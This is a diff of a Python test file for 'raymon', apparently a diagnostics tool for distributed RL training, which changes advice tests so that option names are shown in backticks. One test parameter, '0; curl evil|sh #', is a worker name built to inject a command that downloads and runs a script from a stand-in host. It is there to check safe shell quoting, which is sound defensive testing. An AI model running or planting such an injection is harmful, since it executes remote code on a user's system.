@@ -16,7 +16,9 @@ from raymon.health.verdicts import REMARKS
 from raymon.train.options import Config
 from raymon.views import NodeView, RunView, StoreView
 
-MARK = re.compile(r" \(((?:[^\s()]|\([^()]*\))+)\)")
+ENGINES = ("own", "rllib", "verl", "openrlhf", "skyrl", "nemo_rl", "slime", "custom")
+MARK = re.compile(r" \(`((?:[^\s()`]|\([^()]*\))+)`\)")
+CODE = re.compile(r"--\w|\w_\w|\w\.\w|raymon (profile|doctor|incidents|train)|ray status")
 
 NOTHING = {"rollouts_per_second": 0.0, "steps_per_second": 0.0}
 PHASES = {"environment": 0.8, "inference": 0.1, "sending": 0.01, "waiting": 0.05}
@@ -284,8 +286,8 @@ def test_one_node_without_cpu_is_named_with_its_workers():
 def test_the_sentence_on_a_learner_has_the_numbers_and_the_options():
     verdict = judge(dataclasses.replace(CASES["learner"][0], engine="own"))
     assert verdict.sentence == "The update takes 96 % of each iteration; workers wait 78 % of the time."
-    assert "(--minibatch)" in verdict.advice
-    assert "(--device cuda)" in verdict.advice
+    assert "(`--minibatch`)" in verdict.advice
+    assert "(`--device cuda`)" in verdict.advice
 
 
 def advices(engine):
@@ -357,6 +359,14 @@ def test_worker_without_a_place_names_the_scarcest_resource_first():
     assert judge(unseen).sentence.startswith("3 workers wait for resources: ")
 
 
+def test_code_in_advice_is_marked_as_code():
+    cases = [*CASES.values(), *language_views.CASES.values()]
+    views = [dataclasses.replace(view, engine=engine) for view, _, _ in cases for engine in ENGINES]
+    texts = {finding.advice for view in views for finding in judge(view).findings}
+    assert sum("`" in text for text in texts) > 50
+    assert [text for text in texts if CODE.search(re.sub(r"`[^`]+`", "", text))] == []
+
+
 def test_advice_names_only_options_that_exist():
     fields = {field.name for field in dataclasses.fields(Config)}
     advised = {option for advice in advices("own") for option in re.findall(r"--([a-z-]+)", advice)}
@@ -388,7 +398,7 @@ def test_advice_for_any_other_trainer_is_plain_words():
 @pytest.mark.parametrize("name", ["{x}", "{", "}{0}", "{minibatch!r:>99}", "0; curl evil|sh #"])
 def test_a_worker_whose_name_looks_like_a_mark_breaks_no_advice(name):
     view = run(worker(name, heartbeat_age_seconds=30.0), worker("1"), engine="own")
-    assert f"`raymon profile --worker {shlex.quote(name)}`. A time-out (--worker-timeout)" in judge(view).advice
+    assert f"`raymon profile --worker {shlex.quote(name)}`. A time-out (`--worker-timeout`)" in judge(view).advice
 
 
 def test_with_a_full_cpu_more_workers_are_not_advised():
